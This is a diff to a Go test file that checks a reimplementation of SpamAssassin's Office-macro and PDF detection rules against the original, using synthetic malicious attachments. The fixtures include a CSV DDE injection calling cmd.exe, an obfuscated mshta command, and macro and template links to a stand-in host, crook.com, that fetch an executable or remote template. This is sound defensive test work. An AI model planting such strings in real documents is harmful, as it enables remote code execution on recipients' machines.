@@ -22,18 +22,26 @@ import (
 // of the files below meet.
 func pluginRules() string {
 	var b strings.Builder
-	for _, fn := range []string{"check_olemacro", "check_oleobject", "check_olertfobject", "check_olemacro_malice", "check_olemacro_encrypted",
-		"check_olemacro_renamed", "check_olemacro_zip_password", "check_olemacro_csv", "check_olemacro_download_exe", "check_olemacro_redirect_uri",
+	for _, fn := range []string{"check_olemacro", "check_oleobject", "check_olertfobject", "check_olemacro_malice",
+		"check_olemacro_encrypted",
+		"check_olemacro_renamed", "check_olemacro_zip_password", "check_olemacro_csv", "check_olemacro_download_exe",
+		"check_olemacro_redirect_uri",
 		"check_olemacro_mhtml_uri", "pdf_is_encrypted"} {
 		fmt.Fprintf(&b, "body T_%s eval:%s()\n", strings.ToUpper(fn), fn)
 	}
 	sum := fmt.Sprintf("%x", md5.Sum([]byte(pdf)))
-	for i, call := range []string{"pdf_count('1')", "pdf_count('2', '3')", "pdf_count('0', '0')", "pdf_image_count('1')", "pdf_image_count('2', '9')",
-		"pdf_pixel_coverage('1000')", "pdf_pixel_coverage('1', '1000')", "pdf_image_size_exact('20', '100')", "pdf_image_size_exact('100', '20')",
-		"pdf_image_size_range('10', '50')", "pdf_image_size_range('10', '50', '30', '99')", "pdf_named('a.pdf')", "pdf_name_regex('/^A.*F$/i')",
-		"pdf_name_regex('/^b/')", "pdf_image_to_text_ratio('0.001', '0.1')", "pdf_image_to_text_ratio('0.1', '0.2')", "pdf_match_md5('" + sum + "')",
-		"pdf_match_fuzzy_md5('" + sum + "')", "pdf_match_details('author', '/^Jo.n \\(x\\)$/')", "pdf_match_details('creator', '/^Writer$/')",
-		"pdf_match_details('producer', '/Tool/i')", "pdf_match_details('title', '/a|b/')", "pdf_match_details('created', '/^2026/')",
+	for i, call := range []string{"pdf_count('1')", "pdf_count('2', '3')", "pdf_count('0', '0')", "pdf_image_count('1')",
+		"pdf_image_count('2', '9')",
+		"pdf_pixel_coverage('1000')", "pdf_pixel_coverage('1', '1000')", "pdf_image_size_exact('20', '100')",
+		"pdf_image_size_exact('100', '20')",
+		"pdf_image_size_range('10', '50')", "pdf_image_size_range('10', '50', '30', '99')", "pdf_named('a.pdf')",
+		"pdf_name_regex('/^A.*F$/i')",
+		"pdf_name_regex('/^b/')", "pdf_image_to_text_ratio('0.001', '0.1')", "pdf_image_to_text_ratio('0.1', '0.2')",
+		"pdf_match_md5('" + sum + "')",
+		"pdf_match_fuzzy_md5('" + sum + "')", "pdf_match_details('author', '/^Jo.n \\(x\\)$/')",
+		"pdf_match_details('creator', '/^Writer$/')",
+		"pdf_match_details('producer', '/Tool/i')", "pdf_match_details('title', '/a|b/')",
+		"pdf_match_details('created', '/^2026/')",
 		"pdf_match_details('modified', '/^2027/')", "pdf_is_empty_body('5')", "pdf_is_empty_body('500')"} {
 		fmt.Fprintf(&b, "body T_PDF_%d eval:%s\n", i, call)
 	}
@@ -41,9 +49,12 @@ func pluginRules() string {
 	return b.String()
 }
 
-const pdf = "%PDF-1.4\n1 0 obj\n<</Title(a title)/Author(Jo\\150n \\(x\\))/Creator<FEFF005700720069007400650072>/Producer(A Tool)\n" +
-	"/CreationDate(D:20261129)/ModDate(D:20270101)>>\nendobj\n2 0 obj\n<</Subtype /Image\n/Width 100/Height 20>>\nstream\nxx\nendstream\nendobj\n" +
-	"3 0 obj\n/Type /Image 100 0 0 20 0 0 cm\n100 0 0 20 0 0 cm\nendobj\n4 0 obj\n<</A<</S /URI /URI (http://crook.com/a)>>>>\nendobj\n%%EOF\n"
+const pdf = "%PDF-1.4\n1 0 obj\n<</Title(a title)/Author(Jo\\150n " +
+	"\\(x\\))/Creator<FEFF005700720069007400650072>/Producer(A Tool)\n" +
+	"/CreationDate(D:20261129)/ModDate(D:20270101)>>\nendobj\n2 0 obj\n<</Subtype /Image\n/Width 100/Height 20>>\n" +
+	"stream\nxx\nendstream\nendobj\n" +
+	"3 0 obj\n/Type /Image 100 0 0 20 0 0 cm\n100 0 0 20 0 0 cm\nendobj\n4 0 obj\n" +
+	"<</A<</S /URI /URI (http://crook.com/a)>>>>\nendobj\n%%EOF\n"
 
 // archived returns a ZIP archive of files, whose names and contents alternate.
 func archived(t *testing.T, files ...string) string {
@@ -78,20 +89,25 @@ func TestPlugins(t *testing.T) {
 	encrypted := ole + zeros + strings.ReplaceAll("EncryptedPackage", "", "\x00")[1:] + zeros
 	macro := ole + zeros + "\x00Attribut\x00e Document_Open" + zeros
 	rels := func(target string) string {
-		return `<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="` + target + `" TargetMode="External"/></Relationships>`
+		return `<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="` + target +
+			`" TargetMode="External"/></Relationships>`
 	}
 	docm := archived(t, "[Content_Types].xml", "<Types/>", "word/vbaProject.bin", "AutoOpen")
 	docx := archived(t, "[Content_Types].xml", "<Types/>", "word/document.xml", "<x/>")
 	files := [][2]string{
-		{"a.doc", macro}, {"a.doc", ole + zeros}, {"a.dat", macro}, {"a.xls", encrypted}, {"a.xls", ole + zeros[:0x200] + "\xfe" + zeros},
-		{"a.docm", docm}, {"a.docm", "x"}, {"a.docx", docm}, {"a.docx", docx}, {"a.dotx", docm}, {"a.bin", docm}, {"a.pptm", docx},
+		{"a.doc", macro}, {"a.doc", ole + zeros}, {"a.dat", macro}, {"a.xls", encrypted}, {"a.xls", ole + zeros[:0x200] +
+			"\xfe" + zeros},
+		{"a.docm", docm}, {"a.docm", "x"}, {"a.docx", docm}, {"a.docx", docx}, {"a.dotx", docm}, {"a.bin", docm},
+		{"a.pptm", docx},
 		{"a.zip", archived(t, "b.docm", docm)}, {"a.zip", archived(t, "b.zip", archived(t, "c.docm", docm))},
-		{"a.zip", archived(t, "b.zip", archived(t, "c.zip", archived(t, "d.docm", docm)))}, {"a.zip", archived(t, "b.txt", "hello")},
+		{"a.zip", archived(t, "b.zip", archived(t, "c.zip", archived(t, "d.docm", docm)))},
+		{"a.zip", archived(t, "b.txt", "hello")},
 		{"a.xlsx", archived(t, "[Content_Types].xml", "<Types/>", "xl/embeddings/o.bin", "x")},
 		{"a.docx", archived(t, "[Content_Types].xml", "<Types/>", "word/a.rtf", "x")},
 		{"a.docx", archived(t, "word/_rels/settings.xml.rels", rels("https://crook.com/t.dotm"))},
 		{"a.docx", archived(t, "word/_rels/document.xml.rels", rels("mhtml:https://crook.com/t!x"))},
-		{"a.docx", archived(t, "[Content_Types].xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)},
+		{"a.docx", archived(t, "[Content_Types].xml",
+			`<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)},
 		{"a.rtf", `{\rtf1{\object\objemb{\*\objdata 0105}}}`}, {"a.rtf", `{\rtf1 hello}`},
 		{"a.csv", `=MSEXCEL|'\..\..\Windows\System32\cmd.exe'`}, {"a.csv", "a,b"},
 		{"a.doc", macro + "x\x00http://crook.com/load/program.exe\x06"}, {"a.doc", ole + "cmd /c ms^h^ta ht^tp:/^/x"},
@@ -102,24 +118,32 @@ func TestPlugins(t *testing.T) {
 	var mails []string
 	for i, f := range files {
 		for _, kind := range []string{"application/octet-stream", "application/pdf", "text/plain"} {
-			if kind == "application/pdf" && !strings.Contains(f[1], "%PDF") || kind == "application/octet-stream" && f[0] == "a.txt" { // a PDF here
+			if kind == "application/pdf" && !strings.Contains(f[1], "%PDF") || kind == "application/octet-stream" &&
+				f[0] == "a.txt" { // a PDF here
 				continue
 			}
-			mails = append(mails, fmt.Sprintf("From: a@a.com\nTo: b@b.com\nSubject: papers\nX-Number: %d\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1\n\n"+
-				"--b1\nContent-Type: text/plain\n\nThe papers %d.\n\n--b1\nContent-Type: %s; name=\"%s\"\nContent-Disposition: attachment; filename=\"%s\"\n"+
-				"Content-Transfer-Encoding: base64\n\n%s\n--b1--\n", len(mails), i, kind, f[0], f[0], lines(base64.StdEncoding.EncodeToString([]byte(f[1])))))
+			mails = append(mails,
+				fmt.Sprintf("From: a@a.com\nTo: b@b.com\nSubject: papers\nX-Number: %d\nMIME-Version: 1.0\n"+
+					"Content-Type: multipart/mixed; boundary=b1\n\n"+
+					"--b1\nContent-Type: text/plain\n\nThe papers %d.\n\n--b1\nContent-Type: %s; name=\"%s\"\n"+
+					"Content-Disposition: attachment; filename=\"%s\"\n"+
+					"Content-Transfer-Encoding: base64\n\n%s\n--b1--\n", len(mails), i, kind, f[0], f[0],
+					lines(base64.StdEncoding.EncodeToString([]byte(f[1])))))
 		}
 	}
 	site, own := t.TempDir(), t.TempDir()
-	e2e.Write(t, site, "a.pre", "loadplugin Mail::SpamAssassin::Plugin::Check\nloadplugin Mail::SpamAssassin::Plugin::OLEVBMacro\n"+
-		"loadplugin Mail::SpamAssassin::Plugin::PDFInfo\n", 0o644)
-	e2e.Write(t, site, "local.cf", "use_bayes 0\nattachment_timeout 60\nreport_safe 0\nfold_headers 0\nclear_headers\nadd_header all Said _SCORE_ _TESTS_\n", 0o644)
+	e2e.Write(t, site, "a.pre",
+		"loadplugin Mail::SpamAssassin::Plugin::Check\nloadplugin Mail::SpamAssassin::Plugin::OLEVBMacro\n"+
+			"loadplugin Mail::SpamAssassin::Plugin::PDFInfo\n", 0o644)
+	e2e.Write(t, site, "local.cf", "use_bayes 0\nattachment_timeout 60\nreport_safe 0\nfold_headers 0\nclear_headers\n"+
+		"add_header all Said _SCORE_ _TESTS_\n", 0o644)
 	e2e.Write(t, own, "rules.cf", pluginRules(), 0o644)
 	theirs := spamAssassin(t, own, site, mails)
 	ours := spamdCheck(t, own, site, mails)
 	hits := map[string]bool{}
 	for i := range mails {
-		if strings.Contains(mails[i], "Content-Type: text/plain; name") { // SpamAssassin follows no link in what is declared to be text
+		// SpamAssassin follows no link in what is declared to be text
+		if strings.Contains(mails[i], "Content-Type: text/plain; name") {
 			ours[i] = strings.TrimSuffix(ours[i], ",T_URI_CROOK")
 		}
 		if theirs[i] != ours[i] {
@@ -130,7 +154,8 @@ func TestPlugins(t *testing.T) {
 		}
 	}
 	t.Logf("%d mails, %d rules hit", len(mails), len(hits))
-	for _, want := range []string{"T_CHECK_OLEMACRO", "T_CHECK_OLEOBJECT", "T_CHECK_OLERTFOBJECT", "T_CHECK_OLEMACRO_MALICE", "T_CHECK_OLEMACRO_ENCRYPTED",
+	for _, want := range []string{"T_CHECK_OLEMACRO", "T_CHECK_OLEOBJECT", "T_CHECK_OLERTFOBJECT",
+		"T_CHECK_OLEMACRO_MALICE", "T_CHECK_OLEMACRO_ENCRYPTED",
 		"T_CHECK_OLEMACRO_RENAMED", "T_CHECK_OLEMACRO_ZIP_PASSWORD", "T_CHECK_OLEMACRO_CSV", "T_CHECK_OLEMACRO_DOWNLOAD_EXE",
 		"T_CHECK_OLEMACRO_REDIRECT_URI", "T_CHECK_OLEMACRO_MHTML_URI", "T_PDF_IS_ENCRYPTED", "T_PDF_0", "T_URI_CROOK"} {
 		if !hits[want] {
